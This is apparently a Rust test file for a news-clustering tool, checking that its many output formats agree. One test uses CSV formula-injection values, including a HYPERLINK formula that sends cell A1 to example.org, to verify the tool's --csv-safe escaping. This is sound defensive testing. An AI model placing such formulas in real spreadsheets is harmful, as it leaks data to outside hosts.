//! One run, several formats: they state the same facts.

use super::run::{Desk, gz, record};
use super::texts::{HARBOUR, HARBOUR_EDITED, ORCHARD, three};
use serde_json::{Value, json};
use std::io::Read;
use std::path::Path;

/// A folder with every form of input: a page, JSON lines, a JSON array and a packed file.
fn mixed() -> Desk {
    let desk = Desk::new();
    let seeds = Desk::with_seeds();
    desk.write("news/page.txt", seeds.read("seeds/pages/en-04.txt"));
    desk.write("news/feed.jsonl", three());
    let array = json!([{"headline": "Bridge closed, ferries run", "content": HARBOUR}, {"body": ORCHARD}]);
    desk.write("news/array.json", array.to_string());
    desk.write("news/packed.jsonl.gz", gz(record("packed", "Bridge", HARBOUR_EDITED).as_bytes()));
    desk
}

const ALL: &str = "-o json=r.json -o jsonl=r.jsonl -o html=r.html -o markdown=r.md -o terminal=r.txt";

#[test]
fn every_form_of_input_goes_into_every_format_of_output() {
    let desk = mixed();
    let ran = desk.run(&format!("cluster news {ALL}")).cleanly();
    let report = desk.json("r.json");
    assert_eq!(report["funnel"]["files"], 4);
    assert_eq!(report["funnel"]["documents"], 7);
    assert_eq!(report["copies"].as_array().unwrap().len(), 2, "four of the bridge, two of the cherries");
    let documents: Vec<&str> =
        report["documents"].as_array().unwrap().iter().map(|entry| entry["id"].as_str().unwrap()).collect();
    assert_eq!(
        documents,
        [
            "news/array.json:1",
            "news/array.json:2",
            "morning",
            "evening",
            "orchard",
            "packed",
            "news/page.txt"
        ]
    );
    assert!(ran.out.contains("documents        7") && ran.out.contains("from 4 files"), "{}", ran.out);
    assert_eq!(desk.read("r.txt"), ran.out, "the terminal format is the summary without colours");
    assert_eq!(desk.names(), ["news", "r.html", "r.json", "r.jsonl", "r.md", "r.txt"]);
}

#[test]
fn json_and_jsonl_state_the_same_facts() {
    let desk = Desk::with_seeds();
    desk.run("cluster seeds -o json=r.json -o jsonl=r.jsonl").cleanly();
    let keys = ["document", "kind", "lines", "copies", "story", "storyline", "representative"];
    let facts = |entry: &Value, number: &str| -> Vec<Value> {
        keys.iter().copied().chain([number]).map(|key| entry[key].clone()).collect()
    };
    let report = desk.json("r.json");
    let whole: Vec<Vec<Value>> =
        report["articles"].as_array().unwrap().iter().map(|entry| facts(entry, "number")).collect();
    let lines: Vec<Vec<Value>> = desk
        .read("r.jsonl")
        .lines()
        .map(|line| facts(&serde_json::from_str(line).unwrap(), "article"))
        .collect();
    assert!(whole.len() > 150, "{} articles", whole.len());
    assert!(whole.iter().flatten().filter(|fact| fact.is_null()).count() < whole.len(), "keys are missing");
    assert_eq!(whole, lines);
}

#[test]
fn what_the_groups_hold_is_what_the_articles_say() {
    let desk = Desk::with_seeds();
    desk.run("cluster seeds -o json=r.json").cleanly();
    let report = desk.json("r.json");
    let list = |value: &Value| value.as_array().unwrap().clone();
    let articles = list(&report["articles"]);
    for (groups, members, level) in [("copies", "members", "copies"), ("stories", "articles", "story")] {
        let mut held = 0;
        for group in list(&report[groups]) {
            for member in list(&group[members]) {
                let article = articles.iter().find(|article| article["id"] == member).unwrap();
                assert_eq!(article[level], group["id"]);
                held += 1;
            }
        }
        let said = articles.iter().filter(|article| !article[level].is_null()).count();
        assert_eq!(held, said, "{groups}");
    }
    for storyline in list(&report["storylines"]) {
        let held: Vec<Value> = list(&storyline["stories"]);
        let said = articles.iter().filter(|article| article["storyline"] == storyline["id"]);
        assert!(said.clone().all(|article| held.contains(&article["story"])));
        assert_eq!(json!(said.count()), storyline["articles"]);
    }
}

#[test]
fn every_group_has_its_place_in_the_page() {
    let desk = Desk::with_seeds();
    desk.run(&format!("cluster seeds {ALL}")).cleanly();
    let (report, pages) = (desk.json("r.json"), unpacked(&desk.read("r.html"), "clusters"));
    let list = |key: &str| report[key].as_array().unwrap().clone();
    let several = |key: &str, members: &str| -> Vec<Value> {
        list(key).into_iter().filter(|group| group[members].as_array().unwrap().len() > 1).collect()
    };
    let groups = [("l", several("storylines", "stories")), ("s", list("stories")), ("c", list("copies"))];
    assert_eq!(pages.len(), groups.iter().map(|(_, groups)| groups.len()).sum::<usize>());
    for (prefix, groups) in groups {
        assert!(groups.len() > 10, "{} of {prefix}", groups.len());
        for group in groups {
            let place = format!("id=\"{prefix}-{}\"", group["id"].as_str().unwrap());
            assert_eq!(pages.iter().filter(|page| page.contains(&place)).count(), 1, "{place}");
        }
    }
}

/// What is packed in a page, item after item.
fn unpacked(page: &str, kind: &str) -> Vec<String> {
    let opening = format!("<script type=\"application/octet-stream\" id=\"{kind}-");
    let chunks = page.split(&opening).skip(1).map(|rest| {
        let packed = rest.split_once('>').and_then(|(_, rest)| rest.split_once("</script>")).unwrap().0;
        let mut text = String::new();
        flate2::read::DeflateDecoder::new(&*decoded(packed)).read_to_string(&mut text).unwrap();
        text
    });
    chunks.flat_map(|chunk| chunk.split('\u{1e}').map(str::to_owned).collect::<Vec<_>>()).collect()
}

/// The bytes that are written as base64 (RFC 4648).
fn decoded(text: &str) -> Vec<u8> {
    const DIGITS: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let digits: Vec<u32> =
        text.chars().filter_map(|digit| DIGITS.find(digit)).map(|value| value as u32).collect();
    let mut bytes = Vec::new();
    for group in digits.chunks(4) {
        let bits = group.iter().fold(0, |bits, digit| bits << 6 | digit) << (6 * (4 - group.len()));
        bytes.extend(bits.to_be_bytes()[1..].iter().take(group.len() - 1));
    }
    bytes
}

#[test]
fn every_member_of_a_group_is_named_with_its_place_in_every_format_for_people() {
    let desk = mixed();
    let summary = desk.run(&format!("cluster news {ALL}")).cleanly().out;
    let report = desk.json("r.json");
    let list = |key: &str| report[key].as_array().unwrap().clone();
    let find = |key: &str, id: &Value| list(key).into_iter().find(|entry| entry["id"] == *id).unwrap();
    let groups = list("copies").into_iter().map(|group| group["members"].clone());
    let stories = list("stories").into_iter().map(|story| story["articles"].clone());
    let members: Vec<Value> = groups
        .chain(stories)
        .filter(|group| group.as_array().unwrap().len() > 1)
        .flat_map(|group| group.as_array().unwrap().clone())
        .collect();
    assert!(members.len() >= 14, "{} members", members.len());
    for member in members {
        let article = find("articles", &member);
        let document = find("documents", &article["document"]);
        let path = document["path"].as_str().unwrap();
        let place = match document["record"].as_u64() {
            Some(record) => format!("{path}:{record}"),
            None => format!("{path}:{}", article["lines"][0]),
        };
        for (name, shown) in
            [("page", desk.read("r.html")), ("markdown", desk.read("r.md")), ("summary", summary.clone())]
        {
            assert!(shown.contains(&place), "{place} is not in the {name}");
        }
    }
}

#[test]
fn the_last_level_that_was_asked_for_is_the_last_that_is_reported() {
    let desk = Desk::with_seeds();
    desk.run("cluster seeds --levels copies -o json=r.json").cleanly();
    let copies = desk.json("r.json");
    desk.run("cluster seeds --levels stories -o json=r.json").cleanly();
    let stories = desk.json("r.json");
    assert!(
        !stories["stories"].as_array().unwrap().is_empty()
            && !stories["passages"].as_array().unwrap().is_empty()
    );
    assert!(stories["storylines"].as_array().unwrap().is_empty());
    assert!(stories["articles"].as_array().unwrap().iter().all(|article| article["storyline"].is_null()));
    desk.run("cluster seeds --levels all -o json=r.json").cleanly();
    let all = desk.json("r.json");
    assert!(
        !all["stories"].as_array().unwrap().is_empty() && !all["storylines"].as_array().unwrap().is_empty()
    );
    assert!(
        copies["stories"].as_array().unwrap().is_empty()
            && copies["storylines"].as_array().unwrap().is_empty()
    );
    assert!(copies["articles"].as_array().unwrap().iter().all(|article| article["story"].is_null()));
    let members = |report: &Value| {
        let groups = report["copies"].as_array().unwrap();
        groups.iter().map(|group| group["members"].clone()).collect::<Vec<_>>()
    };
    assert!(!members(&copies).is_empty());
    assert_eq!(members(&copies), members(&all));
}

#[test]
fn the_report_is_as_the_published_schema_says() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/report.schema.json");
    let schema: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let (seeds, mixed) = (Desk::with_seeds(), mixed());
    for (desk, inputs) in [(&seeds, "seeds"), (&seeds, "seeds --levels copies"), (&mixed, "news")] {
        desk.run(&format!("cluster {inputs} -o json=r.json")).cleanly();
        let report = desk.json("r.json");
        let faults: Vec<String> = validator.iter_errors(&report).map(|fault| fault.to_string()).collect();
        assert_eq!(faults, Vec::<String>::new(), "{inputs}");
    }
}

#[test]
fn text_used_again_and_text_that_stands_only_here_are_in_every_format_that_shows_texts() {
    let background = "The canal was dug in 1884 by four hundred men from the hills, who were paid in salt and slept in \
                      the barges that they would later sail along it to the sea.";
    let desk = Desk::with_seeds();
    let records: Vec<Value> =
        desk.read("seeds/en.jsonl").lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let text = |record: &Value| record["text"].as_str().unwrap().to_string();
    let flood = format!("{} {background}", text(&records[0]));
    let last = format!("{} {background}", text(&records[records.len() - 1]));
    let more = "A diver of the port looked at the pillars for two hours and found a crack as long as a boat.";
    let lines = [
        record("one", "Bridge", &flood),
        record("two", "Bridge", &format!("{flood} {more}")),
        record("three", "Orchard", &last),
    ];
    desk.write("feed.jsonl", lines.concat());
    let formats = "-o json=r.json -o csv=a.csv -o passages=p.csv -o markdown=r.md -o html=r.html -o parquet=a.parquet \
                   -o parquet-passages=p.parquet";
    let summary = desk.run(&format!("cluster feed.jsonl --details {formats}")).cleanly().out;
    let report = desk.json("r.json");
    let reused = report["reused"].as_array().unwrap();
    let passages = report["passages"].as_array().unwrap();
    let passage = passages.iter().find(|it| it["id"] == reused[0]).unwrap();
    assert_eq!((reused.len(), passage["text"].as_str().unwrap()), (1, background));
    assert_eq!(passage["occurrences"].as_array().unwrap().len(), 3);
    let of = |id: &str| {
        let articles = report["articles"].as_array().unwrap();
        articles.iter().find(|article| article["document"] == id).unwrap()["only_here"].clone()
    };
    assert_eq!(of("two")[0]["words"], 21);
    assert!(of("one").is_null() && of("three")[0]["words"].as_u64().unwrap() > 20);
    let words = |text: &str| {
        text.split_whitespace().collect::<Vec<_>>().join(" ").replace("┃ ", "").replace("│ ", "")
    };
    for said in [background, "only here · 21 words at feed.jsonl:2"] {
        assert!(words(&summary).contains(said), "{said} is not in\n{summary}");
    }
    assert!(desk.read("r.md").contains(background) && desk.read("r.md").contains("21 words only here"));
    assert!(desk.read("a.csv").lines().any(|line| line.starts_with("two#1,") && line.ends_with(",21")));
    assert!(desk.read("p.csv").lines().filter(|line| line.contains(",true,")).count() == 3);
    for name in ["a.parquet", "p.parquet"] {
        let bytes = std::fs::read(desk.path(name)).unwrap();
        assert!(bytes.starts_with(b"PAR1") && bytes.ends_with(b"PAR1"), "{name}");
    }
}

#[test]
fn a_table_for_a_spreadsheet_holds_no_formula_and_one_for_a_program_what_was_said() {
    let desk = Desk::new();
    let text = "=The harbour bridge has been closed since the storm, and no ferry has left the quay for two days now.";
    let line = |id: &str, title: &str, source: &str| {
        let record = serde_json::json!({"id": id, "title": title, "source": source, "text": text});
        format!("{record}\n")
    };
    let formula = "=HYPERLINK(\"http://example.org/?\"&A1,\"bridge\")";
    desk.write(
        "feed.jsonl",
        [line("+1", formula, "@SUM(A1)"), line("-2", "Bridge = closed", "Post")].concat(),
    );
    desk.run("cluster feed.jsonl -o csv=a.csv -o passages=p.csv -o json=r.json").cleanly();
    desk.run("report r.json -o csv=safe.csv -o passages=safe-p.csv --csv-safe").cleanly();
    let cells = |name: &str| -> Vec<String> {
        let text = desk.read(name);
        let rows = csv::Reader::from_reader(text.as_bytes()).into_records();
        rows.flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
    };
    let [plain, safe] = ["a.csv", "safe.csv"].map(cells);
    for cell in [formula, "@SUM(A1)", "+1", "-2", "Bridge = closed", "Post"] {
        assert!(plain.iter().any(|it| it == cell), "{cell} is not in {plain:?}");
        let wanted =
            if cell.starts_with(['=', '+', '-', '@']) { format!("'{cell}") } else { cell.to_owned() };
        assert!(safe.contains(&wanted), "{wanted} is not in {safe:?}");
    }
    for name in ["safe.csv", "safe-p.csv"] {
        assert!(!cells(name).iter().any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{name}");
    }
}
